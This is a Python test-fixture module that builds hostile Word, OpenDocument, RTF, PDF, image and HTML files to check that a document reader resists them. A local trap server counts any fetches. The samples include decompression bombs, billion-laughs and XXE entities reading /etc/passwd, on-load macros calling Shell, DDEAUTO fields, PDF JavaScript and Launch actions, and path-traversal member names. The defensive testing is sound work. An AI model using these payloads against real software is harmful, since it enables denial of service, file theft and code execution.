"""Hostile: files that are made to hurt whoever opens them; none of them does harm by lying there.

Each is a function of a `Trap` (where a fetched address would be noticed) that gives bytes.
"""

from __future__ import annotations

import io
import shutil
import socket
import struct
import subprocess
import tempfile
import threading
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path

from tests import making

PLAN = """\
ỦY BAN NHÂN DÂN
PHƯỜNG HOA LÂM

CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM
Độc lập - Tự do - Hạnh phúc

Số: 09/KH-UBND

Hoa Lâm, ngày 20 tháng 3 năm 2025

KẾ HOẠCH
Tuyên truyền cải cách hành chính phường Hoa Lâm năm 2025

I. MỤC ĐÍCH, YÊU CẦU
1. Mục đích
- Giúp người dân của phường biết cách nộp hồ sơ qua mạng.
2. Yêu cầu
- Làm thường xuyên, có trọng tâm, không phô trương.

II. KINH PHÍ
Kinh phí thực hiện Kế hoạch được bảo đảm từ ngân sách của phường.

Nơi nhận:
- UBND thành phố;
- Lưu: VT.

TM. ỦY BAN NHÂN DÂN
CHỦ TỊCH



Lê Hoài Đức
"""
_MB = 1_000_000
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SECRET = "root:x:0:0"  # what a file of this machine would show


class Trap:
    """A server of this machine that nothing may call; `calls` counts who did."""

    def __init__(self, folder: Path) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.calls = 0
        self.folder = folder  # what a macro that was run would write to
        threading.Thread(target=self._serve, daemon=True).start()

    @property
    def url(self) -> str:
        """An address that is noticed when it is fetched."""
        return f"http://127.0.0.1:{self._socket.getsockname()[1]}/x"

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            self.calls += 1
            with connection:
                connection.sendall(b"HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n")

    def close(self) -> None:
        """Ends the server."""
        self._socket.close()


Builder = Callable[[Trap], bytes]


@dataclass(slots=True)
class Hostile:
    """A hostile file: the name that it comes under, its bytes, and what may become of it.

    `must` is `refused` (exit status 2 and a sentence), `read` (a report) or `answered` (either).
    """

    name: str
    build: Builder
    must: str = "answered"


# --- zip archives ------------------------------------------------------------------------------


@lru_cache(maxsize=1)
def docx() -> bytes:
    """A good Word file, to be spoilt."""
    return making.docx_of(PLAN, numbered=True)


@lru_cache(maxsize=4)
def saved_as(kind: making.Saved) -> bytes:
    """The same as another kind of file."""
    return making.converted({"plan": docx()}, kind)["plan"]


def members(data: bytes) -> dict[str, bytes]:
    """The files in a zip archive."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(files: Mapping[str, bytes]) -> bytes:
    """A zip archive of some files."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return stream.getvalue()


def spoilt(changes: Mapping[str, bytes]) -> bytes:
    """The good Word file with other members in the place of its own, or beside them."""
    return zipped({**members(docx()), **changes})


def _zeros(size: int) -> bytes:
    """A raw deflate stream of so many zero bytes, made without having them."""
    block = 1_000_000
    pack = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = pack.compress(bytes(block)) + pack.flush(zlib.Z_FULL_FLUSH)
    again = pack.compress(bytes(block)) + pack.flush(zlib.Z_FULL_FLUSH)
    return first + again * (size // block - 1) + pack.flush(zlib.Z_FINISH)


def _crc_of_zeros(size: int) -> int:
    crc, block = 0, bytes(10_000_000)
    for _ in range(size // len(block)):
        crc = zlib.crc32(block, crc)
    return crc


def _with_bomb(name: str, size: int, said: int) -> bytes:
    """The good Word file whose member inflates to `size` bytes and says that it has `said`."""
    files = members(docx())
    files.pop(name, None)
    stream = io.BytesIO(zipped(files))
    bomb, crc = _zeros(size), _crc_of_zeros(size)
    with zipfile.ZipFile(stream, "a") as archive:
        at = archive.start_dir
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        info.CRC, info.compress_size, info.file_size = crc, len(bomb), said
        info.header_offset = at
        assert archive.fp is not None
        archive.fp.seek(at)
        archive.fp.write(info.FileHeader(zip64=False) + bomb)
        archive.start_dir = archive.fp.tell()
        archive.filelist.append(info)
        archive.NameToInfo[name] = info
        archive._didModify = True  # type: ignore[attr-defined]
    return stream.getvalue()


def _thousands_of_members(_: Trap) -> bytes:
    return spoilt({f"word/media/{number}.png": b"" for number in range(60_000)})


def _nested_bomb(_: Trap) -> bytes:
    return spoilt({"word/embeddings/inner.docx": _with_bomb("word/document.xml", 1000 * _MB, 9)})


# --- XML ---------------------------------------------------------------------------------------

_LAUGHS = b"<!DOCTYPE lolz [<!ENTITY l0 'ha'>" + b"".join(
    b"<!ENTITY l%d '%s'>" % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 12)
) + b"]>"  # fmt: skip
_WHERE = {
    "word/document.xml": b"</w:t>",
    "word/styles.xml": b"</w:styles>",
    "word/numbering.xml": b"</w:numbering>",
}


def _with_entity(member: str, declared: bytes, used: bytes) -> bytes:
    """The good Word file with an entity declared in a member and used in its text."""
    data = members(docx())[member]
    head, _, rest = data.partition(b"?>")
    end = _WHERE[member]
    return spoilt({member: head + b"?>" + declared + rest.replace(end, used + end, 1)})


def _external(address: str) -> bytes:
    return b"<!DOCTYPE x [<!ENTITY e SYSTEM '%s'>]>" % address.encode()


def _external_subset(trap: Trap) -> bytes:
    return _with_entity(
        "word/document.xml", b"<!DOCTYPE x SYSTEM '%s'>" % trap.url.encode(), b""
    )  # fmt: skip


def _external_image(trap: Trap) -> bytes:
    """A picture, a template, a linked object and a link, all of them elsewhere."""
    files = members(docx())
    name = "word/_rels/document.xml.rels"
    links = "".join(
        f'<Relationship Id="evil{n}" Type="{_R}/{kind}" Target="{trap.url}{n}"'
        ' TargetMode="External"/>'
        for n, kind in enumerate(("image", "hyperlink", "oleObject", "aFChunk", "subDocument"))
    )
    drawing = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/'
        '2006/wordprocessingDrawing"><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/'
        f'2006/main" xmlns:r="{_R}" r:link="evil0"/></wp:inline></w:drawing></w:r></w:p>'
        f'<w:altChunk xmlns:r="{_R}" r:id="evil3"/><w:subDoc xmlns:r="{_R}" r:id="evil4"/>'
    )
    document = files["word/document.xml"].replace(b"<w:body>", b"<w:body>" + drawing.encode(), 1)
    return spoilt({
        name: files[name].replace(b"</Relationships>", links.encode() + b"</Relationships>"),
        "word/document.xml": document,
        **_template(trap),
    })  # fmt: skip


def _template(trap: Trap) -> dict[str, bytes]:
    relations = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="t" Type="{_R}/attachedTemplate" Target="{trap.url}"'
        ' TargetMode="External"/></Relationships>'
    )
    settings = (
        f'<?xml version="1.0"?><w:settings xmlns:w="{_W}" xmlns:r="{_R}">'
        '<w:attachedTemplate r:id="t"/></w:settings>'
    )
    return {
        "word/settings.xml": settings.encode(),
        "word/_rels/settings.xml.rels": relations.encode(),
    }


def _macros(_: Trap) -> bytes:
    files = members(docx())
    types = files["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    project = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)
    return spoilt({"[Content_Types].xml": types, "word/vbaProject.bin": project})


def _nested_tables(_: Trap) -> bytes:
    opened, closed = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    body = opened * 100_000 + closed * 100_000
    xml = f'<w:document xmlns:w="{_W}"><w:body>{body}<w:p/></w:body></w:document>'
    return spoilt({"word/document.xml": xml.encode()})


def _nested_runs(_: Trap) -> bytes:
    """Two hundred levels of table, as deep as a parser lets through, with text at the bottom."""
    opened, closed = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    body = opened * 60 + "<w:p><w:r><w:t>KẾ HOẠCH</w:t></w:r></w:p>" + closed * 60
    xml = f'<w:document xmlns:w="{_W}"><w:body>{body}<w:p/></w:body></w:document>'
    return spoilt({"word/document.xml": xml.encode()})


def _million_paragraphs(_: Trap) -> bytes:
    paragraph = "<w:p><w:r><w:t>a</w:t></w:r></w:p>"
    xml = f'<w:document xmlns:w="{_W}"><w:body>{paragraph * 1_000_000}</w:body></w:document>'
    return spoilt({"word/document.xml": xml.encode()})


def _long_document(_: Trap) -> bytes:
    """Nearly as much text as is read at all, in 19,000 paragraphs."""
    paragraph = "<w:p><w:r><w:t>Cải cách thủ tục hành chính</w:t></w:r></w:p>"
    xml = f'<w:document xmlns:w="{_W}"><w:body>{paragraph * 19_000}</w:body></w:document>'
    return spoilt({"word/document.xml": xml.encode()})


def _wide_table(_: Trap) -> bytes:
    """Cells that say that they span a billion columns, in a million rows of a vertical merge."""
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr><w:p/></w:tc>'
    xml = (
        f'<w:document xmlns:w="{_W}"><w:body><w:tbl><w:tr>{cell}</w:tr></w:tbl>'
        "<w:p><w:r><w:t>KẾ HOẠCH</w:t></w:r></w:p></w:body></w:document>"
    )
    return spoilt({"word/document.xml": xml.encode()})


def _climbing_names(_: Trap) -> bytes:
    return spoilt({
        "../../climbed.txt": b"x", "/tmp/climbed-absolute.txt": b"x", "..\\..\\climbed.txt": b"x",
        "C:\\climbed.txt": b"x",
    })  # fmt: skip


# --- Word 97, OpenDocument, RTF ----------------------------------------------------------------


def compound(streams: Mapping[str, bytes]) -> bytes:
    """A compound file (OLE) of some streams, each of at least 4096 bytes."""
    size, free, end, fat_mark = 512, 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    fat: list[int] = []
    body = b""

    def put(data: bytes) -> int:
        nonlocal body
        start, count = len(fat), max(1, -(-len(data) // size))
        fat.extend([*range(start + 1, start + count), end])
        body += data.ljust(count * size, b"\0")
        return start

    starts = {name: put(data.ljust(4096, b"\0")) for name, data in streams.items()}
    entries = [("Root Entry", 5, 1, end, 0)]
    entries += [(name, 2, free, starts[name], max(len(d), 4096)) for name, d in streams.items()]
    directory = b""
    for number, (name, kind, child, start, length) in enumerate(entries):
        letters = (name + "\0").encode("utf-16-le")
        right = number + 1 if 0 < number < len(entries) - 1 else free
        directory += letters.ljust(64, b"\0") + struct.pack(
            "<HBBIII16sIQQIQ", len(letters), kind, 1, free, right, child, bytes(16), 0, 0, 0,
            start, length,
        )  # fmt: skip
    at = put(directory)
    table = [*fat, fat_mark]
    table += [free] * (size // 4 - len(table))
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", bytes(16), 62, 3, 0xFFFE,
        9, 6, bytes(6), 0, 1, at, 0, 4096, end, 0, end, 0, len(fat),
    )  # fmt: skip
    header += struct.pack("<108I", *[free] * 108)
    return header + body + struct.pack(f"<{len(table)}I", *table)


def _encrypted_docx(_: Trap) -> bytes:
    info = struct.pack("<HHI", 4, 4, 0x40) + b"<encryption/>"
    return compound({"EncryptionInfo": info, "EncryptedPackage": bytes(range(256)) * 40})


def _encrypted_doc(_: Trap) -> bytes:
    """A Word 97 file whose header says that the rest is encrypted."""
    data = bytearray(saved_as("doc"))
    at = next(n for n in range(512, len(data), 512) if data[n : n + 2] == b"\xec\xa5")
    flags = int.from_bytes(data[at + 10 : at + 12], "little") | 0x0100
    data[at + 10 : at + 12] = flags.to_bytes(2, "little")
    return bytes(data)


def _doc_with_macros(_: Trap) -> bytes:
    """Streams of a Word 97 file with a macro project, which is all that it has."""
    return compound({
        "WordDocument": b"\xec\xa5" + bytes(5000), "_VBA_PROJECT": b"\xcc\x61" + bytes(5000),
        "dir": b"AutoOpen Shell calc.exe" * 200,
    })  # fmt: skip


def odt_with(changes: Mapping[str, bytes]) -> bytes:
    """The plan as OpenDocument, with other members; `mimetype` first and bare, as it must be."""
    files = {**members(saved_as("odt")), **changes}
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", files.pop("mimetype"), zipfile.ZIP_STORED)
        for name, data in files.items():
            archive.writestr(name, data)
    return stream.getvalue()


def _encrypted_odt(_: Trap) -> bytes:
    entry = (
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"'
        ' manifest:size="4000"><manifest:encryption-data manifest:checksum-type="SHA1/1K"'
        ' manifest:checksum="aaaa"><manifest:algorithm manifest:algorithm-name="Blowfish CFB"'
        ' manifest:initialisation-vector="aaaa"/><manifest:key-derivation'
        ' manifest:key-derivation-name="PBKDF2" manifest:iteration-count="1024"'
        ' manifest:salt="aaaa"/></manifest:encryption-data></manifest:file-entry>'
    )
    manifest = (
        '<?xml version="1.0"?><manifest:manifest'
        ' xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
        ' manifest:version="1.2"><manifest:file-entry manifest:full-path="/"'
        ' manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        f"{entry}</manifest:manifest>"
    )
    return odt_with({
        "META-INF/manifest.xml": manifest.encode(), "content.xml": bytes(range(256)) * 16,
    })  # fmt: skip


def _odt_with_script(trap: Trap) -> bytes:
    """A macro that runs on opening and would leave a file, and pictures and sections elsewhere."""
    content = members(saved_as("odt"))["content.xml"].decode()
    script = (
        '<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries'
        ' xmlns:ooo="http://openoffice.org/2004/office"><ooo:library-embedded ooo:name="Standard">'
        f'<ooo:module ooo:name="M"><ooo:source-code>Sub Go\nShell("/usr/bin/touch", 0,'
        f' "{trap.folder}/ran-a-macro", True)\nEnd Sub</ooo:source-code></ooo:module>'
        "</ooo:library-embedded></ooo:libraries></office:script><office:event-listeners>"
        '<script:event-listener script:language="ooo:script" script:event-name="dom:load"'
        ' xlink:href="vnd.sun.star.script:Standard.M.Go?language=Basic&amp;location=document"'
        ' xlink:type="simple"/></office:event-listeners></office:scripts>'
    )
    picture = (
        '<text:p><draw:frame text:anchor-type="as-char" svg:width="2cm" svg:height="2cm">'
        f'<draw:image xlink:href="{trap.url}.png" xlink:type="simple" xlink:show="embed"'
        ' xlink:actuate="onLoad"/></draw:frame></text:p><text:section text:name="far">'
        f'<text:section-source xlink:href="{trap.url}.odt" xlink:type="simple"'
        ' xlink:show="embed"/><text:p/></text:section>'
    )
    content = content.replace("<office:scripts/>", script, 1)
    at = content.index("<text:p ", content.index("<office:text"))
    return odt_with({"content.xml": (content[:at] + picture + content[at:]).encode()})


def _odt_with_entity(trap: Trap) -> bytes:
    content = members(saved_as("odt"))["content.xml"].decode()
    head, _, rest = content.partition("?>")
    declared = (
        f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'><!ENTITY f SYSTEM '{trap.url}'>]>"
    )
    rest = rest.replace("</text:p>", "&e;&f;</text:p>", 1)
    return odt_with({"content.xml": f"{head}?>{declared}{rest}".encode()})


def rtf(inner: str) -> bytes:
    """A small RTF document with something in it."""
    return (
        r"{\rtf1\ansi\deff0{\fonttbl{\f0 Times New Roman;}}\f0 KE HOACH\par "
        + inner
        + r" I. MUC DICH\par 1. Muc dich\par}"
    ).encode("ascii")


def _rtf_fetching(trap: Trap) -> bytes:
    fields = ("INCLUDEPICTURE", "INCLUDETEXT", "LINK Word.Document.8", "DDEAUTO cmd /c")
    return rtf(
        "".join(
            rf'{{\field{{\*\fldinst {{{field} "{trap.url}" \\d}}}}{{\fldrslt x}}}}'
            for field in fields
        )
        + rf"{{\*\template {trap.url}}}"
    )


# --- PDF ---------------------------------------------------------------------------------------


def pdf(objects: list[bytes], root: int = 1, more: bytes = b"") -> bytes:
    """A .pdf of some objects, numbered from 1."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = []
    for number, data in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, data)
    at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root %d 0 R%s>>\n" % (len(objects) + 1, root, more)
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % at


def stream(data: bytes, about: bytes = b"") -> bytes:
    """A stream object."""
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), about, data)


_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_LINES = b"BT /F 12 Tf 14 TL 60 780 Td " + b"".join(
    b"(%d. Uy ban nhan dan phuong to chuc tuyen truyen cai cach) Tj T* " % n for n in range(45)
) + b"ET"  # fmt: skip


def _page(content: int, more: bytes = b"") -> bytes:
    return (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F 3 0 R>>>>"
        b"/Contents %d 0 R%s>>" % (content, more)
    )


def pdf_of_pages(
    count: int, content: bytes = b"", catalog: bytes = b"", page: bytes = b""
) -> bytes:
    """A .pdf of so many pages, all with the same content (a stream object)."""
    kids = b" ".join(b"%d 0 R" % (5 + n) for n in range(count))
    return pdf([
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids),
        _FONT,
        content or stream(_LINES),
        *[_page(4, page)] * count,
    ])  # fmt: skip


def _pdf_bomb(_: Trap) -> bytes:
    size = 2000 * _MB
    deflated = b"\x78\xda" + _zeros(size) + struct.pack(">I", (size % 65521) << 16 | 1)
    twice = zlib.compress(deflated, 9)
    return pdf_of_pages(1, stream(twice, b"/Filter[/FlateDecode/FlateDecode]"))


def _pdf_picture_bomb(_: Trap) -> bytes:
    """A page that is one picture of 60,000 by 60,000 dots, as a scan would be."""
    data = b"\x78\xda" + _zeros(450 * _MB) + struct.pack(">I", (450 * _MB % 65521) << 16 | 1)
    about = (
        b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceGray"
        b"/BitsPerComponent 1/Filter/FlateDecode"
    )
    return pdf([
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</XObject<</I 5 0 R>>>>"
        b"/Contents 4 0 R>>",
        stream(b"q 595 0 0 842 0 0 cm /I Do Q"), stream(data, about),
    ])  # fmt: skip


def _pdf_dense_page(_: Trap) -> bytes:
    """A page with a million letters, one above the other."""
    line = b"(Uy ban nhan dan phuong to chuc tuyen truyen) Tj 0 0.01 Td "
    return pdf_of_pages(
        1, stream(b"BT /F 12 Tf 60 780 Td " + line * (1_000_000 // 44) + b"ET")
    )  # fmt: skip


def _pdf_huge_page(_: Trap) -> bytes:
    """Empty pages that say that they are 500 metres wide: a picture of one fills any memory."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 1400000 1400000]/Contents 4 0 R>>"
    kids = b"[3 0 R 3 0 R 3 0 R]"
    return pdf([
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 3/Kids%s>>" % kids, page,
        stream(b"0 0 10 10 re f"),
    ])  # fmt: skip


def _pdf_circle(_: Trap) -> bytes:
    return pdf([
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Parent 2 0 R/Count 9/Kids[2 0 R 2 0 R 2 0 R]>>",
    ])  # fmt: skip


def _pdf_form_circle(_: Trap) -> bytes:
    """A drawing that draws itself ten times, and so on."""
    draw = b"/X Do " * 10
    form = stream(
        draw, b"/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Resources<</XObject<</X 4 0 R>>>>"
    )
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</XObject<</X 4 0 R>>>>"
        b"/Contents 5 0 R>>"
    )
    return pdf([
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page, form,
        stream(draw),
    ])  # fmt: skip


def _pdf_with_actions(trap: Trap) -> bytes:
    script = b"app.launchURL('%s')" % trap.url.encode()
    catalog = (
        b"/OpenAction<</S/JavaScript/JS(%s)>>/AA<</WC<</S/Launch/F(/bin/touch)>>>>"
        b"/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(%s)>>]>>>>" % (script, script)
    )
    page = (
        b"/AA<</O<</S/URI/URI(%s)>>>>/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(%s)>>>>]"
    )
    address = trap.url.encode()
    return pdf_of_pages(1, catalog=catalog, page=page % (address, address))


def _encrypted_pdf(_: Trap) -> bytes:
    return _qpdf(saved_as("pdf"), "--encrypt", "user", "owner", "256", "--")


def _locked_pdf(_: Trap) -> bytes:
    """A .pdf that anyone may open and nobody may copy from."""
    return _qpdf(saved_as("pdf"), "--encrypt", "", "owner", "256", "--extract=n", "--")


def _qpdf(data: bytes, *options: str) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        before, after = Path(folder, "in.pdf"), Path(folder, "out.pdf")
        before.write_bytes(data)
        subprocess.run(
            [shutil.which("qpdf") or "qpdf", *options, str(before), str(after)], check=True
        )
        return after.read_bytes()


# --- pictures ----------------------------------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_bomb(_: Trap) -> bytes:
    header = struct.pack(">IIBBBBB", 50_000, 50_000, 1, 0, 0, 0, 0)
    size = (50_000 // 8 + 1) * 50_000 // _MB * _MB
    data = b"\x78\xda" + _zeros(size) + bytes(4)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", data)
        + _chunk(b"IEND", b"")
    )


def _tiff_of_pages(count: int) -> bytes:
    """A .tif of so many pages, which all show the same dots."""
    dots = bytes(100 * 13)
    out = bytearray(b"II*\x00" + struct.pack("<I", 8 + len(dots)) + dots)
    entries = (
        (256, 4, 100), (257, 4, 100), (258, 3, 1), (259, 3, 1), (262, 3, 0), (273, 4, 8),
        (277, 3, 1), (278, 4, 100), (279, 4, len(dots)),
    )  # fmt: skip
    length = 2 + 12 * len(entries) + 4
    for number in range(count):
        following = len(out) + length if number < count - 1 else 0
        out += struct.pack("<H", len(entries))
        for tag, kind, value in entries:
            out += struct.pack("<HHII", tag, kind, 1, value)
        out += struct.pack("<I", following)
    return bytes(out)


# --- web pages ---------------------------------------------------------------------------------


def _long_page(_: Trap) -> bytes:
    line = "<p>Tuyên truyền cải cách hành chính trên địa bàn phường Hoa Lâm.</p>\n"
    return ("<!DOCTYPE html><html><body>" + line * 240_000).encode()[:19_900_000]


def _one_paragraph(_: Trap) -> bytes:
    words = "Tuyên truyền cải cách hành chính trên địa bàn phường Hoa Lâm. "
    return f"<!DOCTYPE html><html><body><p>{words * 200_000}</p></body></html>".encode()


def _deep_page(_: Trap) -> bytes:
    body = "<div>" * 100_000 + "KẾ HOẠCH" + "</div>" * 100_000
    return f"<!DOCTYPE html><html><body>{body}</body></html>".encode()


def _fetching_page(trap: Trap) -> bytes:
    url = trap.url
    page = making.html_of(PLAN).replace(
        "<article>",
        f'<article><img src="{url}"><script src="{url}"></script><iframe src="{url}"></iframe>'
        f'<object data="{url}"></object><link rel="stylesheet" href="{url}">'
        f'<meta http-equiv="refresh" content="0;url={url}">',
    )
    return page.encode()


def _page_with_entities(trap: Trap) -> bytes:
    page = making.html_of(PLAN).partition("\n")[2]
    declared = f"<!DOCTYPE html [<!ENTITY e SYSTEM 'file:///etc/passwd'><!ENTITY f '{trap.url}'>]>"
    return (declared + page.replace("</p>", "&e;&f;</p>", 1)).encode()


def _web_archive(_: Trap) -> bytes:
    return (
        "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=B\n\n--B\n"
        "Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
        + making.html_of(PLAN)
        + "\n--B--\n"
    ).encode()


# --- all ---------------------------------------------------------------------------------------

HOSTILE = (
    Hostile("bom.docx", lambda _: _with_bomb("word/document.xml", 1000 * _MB, 1000 * _MB), "refused"),
    Hostile("bom-noi-doi.docx", lambda _: _with_bomb("word/document.xml", 1000 * _MB, 900), "refused"),
    Hostile("bom-kieu.docx", lambda _: _with_bomb("word/styles.xml", 1000 * _MB, 900)),
    Hostile("bom-ke-ben.docx", lambda _: _with_bomb("word/media/a.png", 1000 * _MB, 1000 * _MB)),
    Hostile("bom-trong-tep.docx", _nested_bomb),
    Hostile("nhieu-tep.docx", _thousands_of_members),
    Hostile("cuoi.docx", lambda _: _with_entity("word/document.xml", _LAUGHS, b"&l11;")),
    Hostile("cuoi-kieu.docx", lambda _: _with_entity("word/styles.xml", _LAUGHS, b"&l11;")),
    Hostile("cuoi-so.docx", lambda _: _with_entity("word/numbering.xml", _LAUGHS, b"&l11;")),
    Hostile("xxe.docx", lambda _: _with_entity("word/document.xml", _external("file:///etc/passwd"), b"&e;")),
    Hostile("xxe-mang.docx", lambda t: _with_entity("word/document.xml", _external(t.url), b"&e;")),
    Hostile("xxe-kieu.docx", lambda t: _with_entity("word/styles.xml", _external(t.url), b"&e;")),
    Hostile("xxe-so.docx", lambda t: _with_entity("word/numbering.xml", _external(t.url), b"&e;")),
    Hostile("xxe-dtd.docx", _external_subset),
    Hostile("lien-ket-ngoai.docx", _external_image, "read"),
    Hostile("macro.docm", _macros, "read"),
    Hostile("bang-long.docx", _nested_tables),
    Hostile("bang-sau.docx", _nested_runs),
    Hostile("trieu-doan.docx", _million_paragraphs),
    Hostile("dai.docx", _long_document),
    Hostile("bang-rong.docx", _wide_table),
    Hostile("leo-thu-muc.docx", _climbing_names),
    Hostile("mat-khau.docx", _encrypted_docx, "refused"),
    Hostile("mat-khau.doc", _encrypted_doc, "refused"),
    Hostile("macro.doc", _doc_with_macros),
    Hostile("mat-khau.odt", _encrypted_odt, "refused"),
    Hostile("macro.odt", _odt_with_script),
    Hostile("xxe.odt", _odt_with_entity),
    Hostile("bom.odt", lambda _: odt_bomb()),
    Hostile("long.rtf", lambda _: rtf("{" * 100_000 + "}" * 100_000)),
    Hostile("doi-tuong.rtf", lambda _: rtf(r"{\object\objemb{\*\objdata " + "d0cf11e0" * 2000 + "}}")),
    Hostile("lien-ket-ngoai.rtf", _rtf_fetching),
    Hostile("1000-trang.pdf", lambda _: pdf_of_pages(1000)),
    Hostile("5000-trang.pdf", lambda _: pdf_of_pages(5000)),
    Hostile("trieu-chu.pdf", _pdf_dense_page),
    Hostile("bom.pdf", _pdf_bomb),
    Hostile("bom-anh.pdf", _pdf_picture_bomb),
    Hostile("trang-khong-lo.pdf", _pdf_huge_page),
    Hostile("vong.pdf", _pdf_circle, "refused"),
    Hostile("vong-hinh.pdf", _pdf_form_circle),
    Hostile("lenh.pdf", _pdf_with_actions),
    Hostile("mat-khau.pdf", _encrypted_pdf, "refused"),
    Hostile("cam-chep.pdf", _locked_pdf, "read"),
    Hostile("bom.png", _png_bomb, "refused"),
    Hostile("nhieu-trang.tif", lambda _: _tiff_of_pages(5000)),
    Hostile("dai.html", _long_page),
    Hostile("mot-doan.html", _one_paragraph),
    Hostile("sau.html", _deep_page),
    Hostile("lay-ve.html", _fetching_page, "read"),
    Hostile("xxe.html", _page_with_entities),
    Hostile("luu.mht", _web_archive),
    Hostile("van-ban.docx", lambda _: PLAN.encode(), "read"),
    Hostile("van-ban.pdf", lambda _: PLAN.encode(), "read"),
    Hostile("word.txt", lambda _: docx(), "read"),
    Hostile("word.pdf", lambda _: docx(), "read"),
)  # fmt: skip


def odt_bomb() -> bytes:
    """OpenDocument whose content is a gigabyte of spaces."""
    files = members(saved_as("odt"))
    content = files["content.xml"]
    spaces = b" " * 20_000_000
    return odt_with({"content.xml": content.replace(b"</text:p>", spaces * 10 + b"</text:p>", 1)})


TRUNCATED: dict[str, Callable[[], bytes]] = {
    "docx": docx,
    "pdf": lambda: saved_as("pdf"),
    "doc": lambda: saved_as("doc"),
    "odt": lambda: saved_as("odt"),
    "rtf": lambda: saved_as("rtf"),
    "html": lambda: making.html_of(PLAN).encode(),
    "png": lambda: _png(),
}
EMPTY = ("txt", "md", "docx", "pdf", "doc", "odt", "rtf", "html", "png", "jpg", "tif")


def _png() -> bytes:
    stream = io.BytesIO()
    making.pages_of(saved_as("pdf"), dpi=60)[0].save(stream, "PNG")
    return stream.getvalue()
